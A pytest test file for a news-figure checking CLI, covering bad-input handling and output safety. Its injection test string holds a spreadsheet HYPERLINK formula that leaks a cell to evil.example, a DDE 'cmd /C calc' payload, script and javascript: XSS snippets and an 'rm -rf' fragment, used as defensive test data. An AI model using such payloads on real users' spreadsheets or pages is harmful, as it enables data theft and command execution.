"""Bad inputs end to end: ``numcheck run`` never crashes, names each bad file once, goes on.

One table, a row per bad input (docs/bad_inputs.md lists them with what the tool does).
Every case runs ``checker.cli.main`` in process on a folder holding one good article and
the bad input, then checks the exit code, the one stderr line naming the file and reason,
the row in skipped.csv, and that the reports for the rest were written.
"""
from __future__ import annotations

import csv
import io
import json
import os
import time
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

import pytest

from checker.cli import main
from checker.reports import raw_cell

GOOD = "Police said 2,000 people marched through the city on Saturday.\n"
ARTICLE = "About 3,000 troops arrived in the region, officials said.\n"
HTML_BOILERPLATE = (
    "<html><body><nav><a href='/'>Home</a> <a href='/about'>About us</a></nav>"
    "<footer>Copyright 2024. All rights reserved.</footer></body></html>"
)
MB = 1_000_000


@dataclass(frozen=True)
class Case:
    """A bad input: the files it makes, what numcheck must exit with, say and record."""

    id: str
    make: Callable[[Path], None]          # writes the bad input into the input folder
    code: int = 1                         # exit status
    err: tuple[str, ...] = ()             # stderr: one line holding all of these (if any)
    skip: tuple[str, str] | None = None   # skipped.csv: a row (path contains, reason contains)
    args: tuple[str, ...] = ()
    claims: tuple[str, ...] = ("good",)   # doc_ids that must have claims in claims.csv
    seconds: float = 60.0                 # generous ceiling: linear work, never a hang
    marks: tuple[pytest.MarkDecorator, ...] = field(default=())


def write(name: str, data: bytes | str) -> Callable[[Path], None]:
    """A maker that writes one file (str as UTF-8)."""
    def make(folder: Path) -> None:
        path = folder / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(data.encode("utf-8", "surrogatepass") if isinstance(data, str) else data)
    return make


def symlink(name: str, target: str, folder_link: bool = False) -> Callable[[Path], None]:
    """A maker for a symbolic link ``name`` -> ``target`` inside the input folder."""
    def make(folder: Path) -> None:
        link = folder / name
        link.parent.mkdir(parents=True, exist_ok=True)
        link.symlink_to(target, target_is_directory=folder_link)
    return make


def fifo(name: str) -> Callable[[Path], None]:
    """A named pipe: opening it to read would block for ever."""
    def make(folder: Path) -> None:
        os.mkfifo(folder / name)
    return make


def big_file(name: str, head: str, filler: str, size: int) -> Callable[[Path], None]:
    """A file of ``size`` bytes: ``head``, then ``filler`` repeated."""
    def make(folder: Path) -> None:
        with (folder / name).open("w", encoding="utf-8", newline="") as fh:
            fh.write(head)
            fh.write(filler * ((size - len(head)) // len(filler)))
    return make


def rules_folder(name: str, text: str) -> Callable[[Path], None]:
    """A --rules folder (beside the inputs) holding one broken rule file."""
    def make(folder: Path) -> None:
        rules = folder.parent / "myrules"
        rules.mkdir(exist_ok=True)
        (rules / name).write_text(text, encoding="utf-8")
    return make


def jsonl(*lines: str) -> bytes:
    return ("\n".join(lines) + "\n").encode()


GOOD_JSON = json.dumps({"id": "j1", "text": ARTICLE})
HEDGES_TYPO = ("[more_than]\nwords = ['more than']\nqualifier = 'more_than'\n"
               "low = 'v'\nhigh = 'inf'\nhihg = 1\n")

CASES = [
    # unreadable files: skipped with a reason, the rest reported, exit 1
    Case("binary NUL bytes", write("img.txt", b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" * 10),
         err=("img.txt", "binary file"), skip=("img.txt", "binary file (NUL bytes)")),
    Case("binary control bytes", write("ctl.md", bytes(range(1, 32)) * 8),
         err=("ctl.md", "binary file"), skip=("ctl.md", "binary file (control characters)")),
    Case("empty file", write("empty.txt", b""), err=("empty.txt", "empty file"),
         skip=("empty.txt", "empty file")),
    Case("whitespace only", write("blank.md", b" \n\t\r\n  "), err=("blank.md", "empty file"),
         skip=("blank.md", "empty file")),
    Case("front matter only", write("fm.txt", "---\ntitle: T\nsource: X\n---\n\n"),
         err=("fm.txt", "no text after front matter"), skip=("fm.txt", "no text after")),
    Case("invalid UTF-16", write("u16.txt", b"\xff\xfe\x00"), err=("u16.txt", "not valid UTF-16"),
         skip=("u16.txt", "not valid UTF-16")),
    Case("unknown extension", write("notes.xyz", ARTICLE), err=("notes.xyz", "unknown extension"),
         skip=("notes.xyz", "unknown extension .xyz")),
    Case("no extension", write("README", ARTICLE), err=("README", "unknown extension (none)"),
         skip=("README", "unknown extension (none)")),
    Case("boilerplate-only HTML", write("page.html", HTML_BOILERPLATE),
         err=("page.html", "no article text in HTML"), skip=("page.html", "no article text")),
    Case("folder symlink loop", symlink("sub/up", "..", folder_link=True),
         err=("up", "folder symlink loop"), skip=("sub/up", "folder symlink loop")),
    Case("symlink to itself", symlink("self.txt", "self.txt"),
         err=("self.txt", "too many levels of symbolic links"), skip=("self.txt", "cannot read")),
    Case("broken symlink", symlink("gone.txt", "nowhere.txt"), err=("gone.txt", "broken symlink"),
         skip=("gone.txt", "broken symlink")),
    Case("named pipe", fifo("pipe.txt"), err=("pipe.txt", "not a file"),
         skip=("pipe.txt", "not a file")),
    Case("malformed JSONL line", write("feed.jsonl", jsonl(GOOD_JSON, '{"text": "broken')),
         err=("feed.jsonl:2", "malformed JSON"), skip=("feed.jsonl:2", "malformed JSON"),
         claims=("good", "j1")),
    Case("JSONL line not an object", write("feed.jsonl", jsonl(GOOD_JSON, "[1, 2, 3]")),
         err=("feed.jsonl:2", "not a JSON object"), skip=("feed.jsonl:2", "not a JSON object"),
         claims=("good", "j1")),
    Case("JSONL nested too deep", write("feed.jsonl", jsonl(GOOD_JSON, "[" * 100_000)),
         err=("feed.jsonl:2", "malformed JSON"), skip=("feed.jsonl:2", "malformed JSON"),
         claims=("good", "j1")),
    Case("JSONL object without text", write("feed.jsonl", jsonl(GOOD_JSON, '{"id": "x"}')),
         err=("feed.jsonl:2", "no text"), skip=("feed.jsonl:2", "no text"), claims=("good", "j1")),
    Case("CSV row without text", write("rows.csv", f'id,text\nc1,"{ARTICLE.strip()}"\nc2,\n'),
         err=("rows.csv:3", "no text"), skip=("rows.csv:3", "no text"), claims=("good", "c1")),
    Case("CSV without a text column", write("rows.csv", "id,body\n1,About 3,000 troops\n"),
         err=("rows.csv", "no text column"), skip=("rows.csv", "no text column in CSV header")),
    # readable, if odd: read, reported, exit 0
    Case("UTF-16 with BOM", write("u16.txt", ("\ufeff" + ARTICLE).encode("utf-16-le")), code=0,
         claims=("good", "u16")),
    Case("UTF-8 with BOM", write("bom.txt", b"\xef\xbb\xbf" + ARTICLE.encode()), code=0,
         claims=("good", "bom")),
    Case("Windows-1252", write("cp.txt", ("\u201cAbout 3,000\u201d troops arrived \u2013 it\u2019s "
                                          "official, officials said.").encode("cp1252")),
         code=0, claims=("good", "cp")),
    Case("mojibake", write("moji.txt", "The ministry\u00e2\u20ac\u2122s figure: about 3,000 "
                                       "troops arrived\u0101\u20ac\u00a6"), code=0,
         claims=("good", "moji")),
    Case("lone surrogate from a JSON escape", write("s.jsonl", jsonl(
        '{"id": "s1", "text": "About 3,000 troops \\ud800 arrived, officials said."}')),
         code=0, claims=("good", "s1")),
    Case("100,000 digits and commas", write("digits.txt", "Officials said " + "1,234," * 16_667
                                            + " troops arrived.\n"), code=0, seconds=20),
    Case("100,000 digits in one number", write("digits.txt", "Officials said " + "7" * 100_000
                                               + " troops arrived.\n"), code=0, seconds=20),
    Case("20 MB file", big_file("big.txt", ARTICLE, "\n", 20 * MB), code=0,
         claims=("good", "big"), seconds=45),
    Case("10 MB single line with no full stop",
         big_file("line.txt", ARTICLE.rstrip(".\n"), " ", 10 * MB), code=0,
         claims=("good", "line"), seconds=45),
    Case("--max-bytes cuts a long file", big_file("long.txt", ARTICLE, "word ", 2 * MB), code=0,
         args=("--max-bytes", "100000"), err=("long.txt", "truncated: read only the first 100000"),
         claims=("good", "long")),
    Case("--max-bytes 0", write("a.txt", ARTICLE), code=2, args=("--max-bytes", "0"),
         err=("max_bytes must be at least 1",), claims=()),
    Case("broken --rules file", rules_folder("hedges.toml", HEDGES_TYPO), code=2,
         args=("--rules", "{rules}"), err=("hedges.toml:6", "unknown key 'hihg'"), claims=()),
    Case("misspelt --rules file name", rules_folder("hedge.toml", "x = 1\n"), code=2,
         args=("--rules", "{rules}"), err=("hedge.toml", "unknown rule file"), claims=()),
]


def _rows(path: Path) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(path.read_text(encoding="utf-8"))))


def _run(tmp_path: Path, case: Case, capsys: pytest.CaptureFixture[str]
         ) -> tuple[int, list[str], Path, float]:
    folder = tmp_path / "in"
    folder.mkdir()
    (folder / "good.txt").write_text(GOOD, encoding="utf-8")
    case.make(folder)
    out = tmp_path / "out"
    args = [a.replace("{rules}", str(tmp_path / "myrules")) for a in case.args]
    capsys.readouterr()
    started = time.perf_counter()
    code = main(["run", str(folder), "--out", str(out), "--quiet", *args])
    took = time.perf_counter() - started
    err = [line for line in capsys.readouterr().err.splitlines() if line.strip()]
    return code, err, out, took


@pytest.mark.parametrize("case", [pytest.param(c, id=c.id, marks=c.marks) for c in CASES])
def test_bad_input(tmp_path: Path, case: Case, capsys: pytest.CaptureFixture[str]) -> None:
    """Exit code, one stderr line naming file and reason, a skipped.csv row, the rest reported."""
    code, err, out, took = _run(tmp_path, case, capsys)
    assert code == case.code, err
    assert took < case.seconds
    if case.err:
        assert len(err) == 1, err
        assert err[0].startswith("numcheck: ") and all(part in err[0] for part in case.err), err
    else:
        assert err == []
    if case.code == 2:
        assert not out.exists()  # a usage error writes nothing
        return
    skipped = _rows(out / "skipped.csv")
    if case.skip is None:
        assert skipped == []
    else:
        assert len(skipped) == 1, skipped
        path, reason = raw_cell(skipped[0]["path"]), raw_cell(skipped[0]["reason"])
        assert case.skip[0] in path and case.skip[1] in reason
        assert path in err[0] and reason in err[0]
    claims = _rows(out / "claims.csv")
    for doc_id in case.claims:
        assert any(raw_cell(r["doc_id"]) == doc_id for r in claims), doc_id
    for name in ("conflicts.csv", "report.md"):
        assert (out / name).stat().st_size > 0


def test_unreadable_file_really_chmod(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """A file without read permission is skipped (not possible to test as root)."""
    folder = tmp_path / "in"
    folder.mkdir()
    (folder / "good.txt").write_text(GOOD, encoding="utf-8")
    locked = folder / "locked.txt"
    locked.write_text(ARTICLE, encoding="utf-8")
    locked.chmod(0)
    try:
        if os.access(locked, os.R_OK):
            pytest.skip("running as root: chmod does not stop reading (see the faked case)")
        code = main(["run", str(folder), "--out", str(tmp_path / "out"), "--quiet"])
        err = capsys.readouterr().err.splitlines()
        assert code == 1 and len(err) == 1 and "locked.txt: cannot read: permission denied" in err[0]
    finally:
        locked.chmod(0o644)


def test_unreadable_file_faked(tmp_path: Path, capsys: pytest.CaptureFixture[str],
                               monkeypatch: pytest.MonkeyPatch) -> None:
    """Permission denied on one file (faked, so it holds as root too): skipped, rest reported."""
    folder = tmp_path / "in"
    folder.mkdir()
    (folder / "good.txt").write_text(GOOD, encoding="utf-8")
    (folder / "locked.txt").write_text(ARTICLE, encoding="utf-8")
    real_open = Path.open

    def guarded(self: Path, *args: object, **kwargs: object) -> object:
        if self.name == "locked.txt":
            raise PermissionError(13, "Permission denied", str(self))
        return real_open(self, *args, **kwargs)  # type: ignore[call-overload]

    monkeypatch.setattr(Path, "open", guarded)
    out = tmp_path / "out"
    code = main(["run", str(folder), "--out", str(out), "--quiet"])
    err = capsys.readouterr().err.splitlines()
    assert code == 1
    assert err == [f"numcheck: skipped {folder / 'locked.txt'}: cannot read: permission denied"]
    assert [raw_cell(r["reason"]) for r in _rows(out / "skipped.csv")] == [
        "cannot read: permission denied"]
    assert any(r["doc_id"] == "good" for r in _rows(out / "claims.csv"))


def test_nothing_readable_keeps_old_reports(tmp_path: Path,
                                            capsys: pytest.CaptureFixture[str]) -> None:
    """Only bad inputs: exit 2, each named, and the reports of the last run stay as they were."""
    folder = tmp_path / "in"
    folder.mkdir()
    (folder / "good.txt").write_text(GOOD, encoding="utf-8")
    out = tmp_path / "out"
    assert main(["run", str(folder), "--out", str(out), "--quiet"]) == 0
    before = {p.name: p.read_bytes() for p in out.iterdir()}
    (folder / "good.txt").write_bytes(b"\x00\x01")
    capsys.readouterr()
    assert main(["run", str(folder), "--out", str(out), "--quiet"]) == 2
    err = capsys.readouterr().err.splitlines()
    assert len(err) == 2 and "good.txt: binary file" in err[0] and "nothing readable" in err[1]
    assert {p.name: p.read_bytes() for p in out.iterdir()} == before


def test_missing_input_is_a_usage_error(tmp_path: Path, capsys: pytest.CaptureFixture[str]
                                        ) -> None:
    """A path that does not exist: exit 2 and one line naming it."""
    assert main(["run", str(tmp_path / "nope.txt"), "--out", str(tmp_path / "out")]) == 2
    err = capsys.readouterr().err.splitlines()
    assert len(err) == 1 and "nope.txt" in err[0] and "no such file" in err[0]


def test_file_name_with_a_line_break(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """A file name holding a newline is still reported on one stderr line."""
    folder = tmp_path / "in"
    folder.mkdir()
    (folder / "good.txt").write_text(GOOD, encoding="utf-8")
    (folder / "bad\nname.xyz").write_text(ARTICLE, encoding="utf-8")
    assert main(["run", str(folder), "--out", str(tmp_path / "out"), "--quiet"]) == 1
    err = capsys.readouterr().err.splitlines()
    assert len(err) == 1


# ---------------------------------------------------------------- safe output

INJECTION = (
    "---\nsource: =HYPERLINK(\"http://evil.example/?\"&A1,\"click\")\n---\n"
    "@SUM(1+1) About 3,000 troops | arrived <script>alert(1)</script> `rm -rf` "
    "[link](javascript:alert(1)), officials said.\n"
    "-2+3 Some 5,000 troops arrived, according to +cmd|' /C calc'!A0.\n"
)


def test_csv_cells_are_neutralised(tmp_path: Path) -> None:
    """Cells that start a formula get a leading quote; ids and numbers stay raw."""
    folder = tmp_path / "in"
    folder.mkdir()
    (folder / "evil.txt").write_text(INJECTION, encoding="utf-8")
    out = tmp_path / "out"
    assert main(["run", str(folder), "--out", str(out), "--quiet"]) == 0
    claims = _rows(out / "claims.csv")
    assert claims and all(r["source"].startswith("'=HYPERLINK") for r in claims)
    sentences = {r["sentence"][:3] for r in claims}
    assert sentences == {"'@S", "'-2"}
    for r in claims:
        for col, cell in r.items():
            if col in ("value", "low", "high"):  # raw numbers: "-2" is a number to a spreadsheet
                assert float(cell) == float(cell)
            else:
                assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (col, cell)
        assert int(r["start"]) < int(r["end"])
    text = INJECTION.split("---\n", 2)[2]
    for r in claims:  # the raw value is one raw_cell away
        assert text[int(r["start"]):int(r["end"])] == raw_cell(r["surface"])


def test_markdown_quotes_are_escaped(tmp_path: Path) -> None:
    """Quoted text cannot break a table row, open a tag, a code span or a link."""
    folder = tmp_path / "in"
    folder.mkdir()
    (folder / "a.txt").write_text(
        "---\nsource: Pipe|Times\n---\nAbout 3,000 troops | arrived <script>x</script> `c` "
        "[l](javascript:alert(1)), officials said.\n"
        "Only 500 troops arrived, the ministry\u2028said.\n", encoding="utf-8")
    out = tmp_path / "out"
    assert main(["run", str(folder), "--out", str(out), "--quiet"]) == 0
    md = (out / "report.md").read_text(encoding="utf-8")
    assert "<script>" not in md and "&lt;script&gt;" in md
    assert "[l](javascript" not in md and "\u2028" not in md
    for line in md.splitlines():
        if line.startswith("| ") and not line.startswith("|---"):
            assert line.replace("\\|", "").count("|") == 9, line  # 8 cells, no extra
        assert line.count("`") == line.count("\\`") + 2 * line.startswith("- `")


@pytest.mark.parametrize("unit", ["officials said 3,000 "])
def test_long_sentence_with_many_figures_is_linear(unit: str) -> None:
    """A sentence four times longer (no full stop, a figure every few words) takes < 8x as long."""
    from checker.claims import extract_claims
    from checker.model import Document
    from checker.rules import load_rules

    rules = load_rules()

    def took(size: int) -> float:
        text = (unit * (size // len(unit) + 1))[:size]
        started = time.perf_counter()
        extract_claims(Document("d", text), rules)
        return time.perf_counter() - started

    took(100)
    assert took(1200) <= 8 * took(300) + 0.02
